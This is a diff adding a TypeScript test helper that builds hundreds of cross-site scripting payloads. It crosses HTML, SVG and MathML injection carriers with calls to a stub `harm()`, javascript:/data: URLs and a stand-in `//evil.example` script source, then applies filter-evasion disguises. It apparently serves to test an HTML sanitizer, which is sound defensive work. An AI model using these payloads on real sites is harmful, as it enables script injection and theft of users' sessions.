@@ -1,0 +1,93 @@
+/** What would call `harm()`, each in a way of its own. `URL` stands for an address, `CODE` for a script. */
+const CARRIERS = [
+  '<script>CODE</script>',
+  '<script src="URL"></script>',
+  '<script type=module>CODE</script>',
+  '<img src=x onerror=CODE>',
+  '<img src=x: onerror="CODE" alt="">',
+  '<image href=x onerror=CODE>',
+  '<svg onload=CODE>',
+  '<svg><script>CODE</script></svg>',
+  '<svg><a xlink:href="URL"><text y=20>x</text></a></svg>',
+  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>CODE</script></svg>#x">',
+  '<math><a xlink:href="URL">x</a></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=CODE&gt;">',
+  '<iframe src="URL"></iframe>',
+  '<iframe srcdoc="&lt;script&gt;parent.CODE&lt;/script&gt;"></iframe>',
+  '<object data="URL"></object>',
+  '<embed src="URL">',
+  '<a href="URL">x</a>',
+  '<a href="/slot" onclick=CODE>x</a>',
+  '<a href="/slot" id=config name=environment onfocus=CODE autofocus tabindex=1>x</a>',
+  '<form action="URL"><input name=parentNode><button formaction="URL">x</button></form>',
+  '<form id=document><input name=cookie><input name=attributes onfocus=CODE autofocus></form>',
+  '<details open ontoggle=CODE><summary>x</summary></details>',
+  '<video autoplay onloadstart=CODE><source onerror=CODE></video>',
+  '<audio src onerror=CODE>',
+  '<body onload=CODE>',
+  '<marquee onstart=CODE>x</marquee>',
+  '<select onfocus=CODE autofocus></select>',
+  '<input onfocus=CODE autofocus>',
+  '<p onmouseover=CODE onpointerenter=CODE>x</p>',
+  '<p style="animation-name:x" onanimationstart=CODE>x</p>',
+  '<style>@import "URL";*{background:url("URL")}</style>',
+  '<link rel=stylesheet href="URL">',
+  '<base href="URL">',
+  '<meta http-equiv=refresh content="0;url=URL">',
+  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
+  '<template><img src=x onerror=CODE></template>',
+  '<title><img src=x onerror=CODE></title>',
+  '<textarea><img src=x onerror=CODE></textarea><script>CODE</script>',
+  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
+  '<table background="URL"><td background="URL">x</table>',
+  '<x-widget onclick=CODE></x-widget><bnw-login onclick=CODE></bnw-login>',
+  '<div popover id=harm onbeforetoggle=CODE>x</div><button popovertarget=harm>x</button>',
+  '"><img src=x onerror=CODE>',
+  "'><svg onload=CODE>",
+  '</script><script>CODE</script>',
+  '--><img src=x onerror=CODE>',
+  ']]><img src=x onerror=CODE>',
+  '${CODE}{{CODE}}<%= CODE %>',
+  'URL'
+]
+
+const SCRIPTS = ['harm()', 'window.harm()', 'top.harm()', "globalThis['harm']()", 'harm`1`']
+
+const ADDRESSES = [
+  'javascript:CODE',
+  'JaVa\tScRiPt:CODE',
+  'data:text/html,<script>CODE</script>',
+  '//evil.example/x'
+]
+
+/** Ways to get past somebody who looks for words and not for meaning. */
+const DISGUISES: ((markup: string) => string)[] = [
+  markup => markup,
+  markup => markup.replace(/<(\w+)/g, (_all, name: string) => `<${name.toUpperCase()}`),
+  markup => markup.replace(/ (on\w+)=/g, '/$1\n='),
+  markup => `<b>${markup}`,
+  markup => `<table><tr>${markup}`,
+  markup => `<svg><desc>${markup}`,
+  markup => `<!-- > -->${markup}<!--`,
+  markup => markup.replace(/<\/?script/gi, match => `${match}\u000c`),
+  markup => `\u202e\u0000${markup}`,
+  markup => `<div title='${markup.replaceAll("'", '&#39;')}'>${markup}</div>`
+]
+
+/**
+ * So many different texts of an attacker, the same at each run. Each would call the global `harm()` where it runs, by
+ * itself or when it is used (S1).
+ */
+export function hostileMarkup(count: number): string[] {
+  const all: string[] = []
+  for (const disguise of DISGUISES)
+    for (const [at, code] of SCRIPTS.entries())
+      for (const carrier of CARRIERS) {
+        const address = ADDRESSES[(at + all.length) % ADDRESSES.length]!
+        all.push(disguise(carrier.replaceAll('URL', address).replaceAll('CODE', code)))
+      }
+  const different = [...new Set(all)]
+  if (different.length < count) throw new Error(`There are but ${different.length} texts.`)
+  return different.slice(0, count)
+}
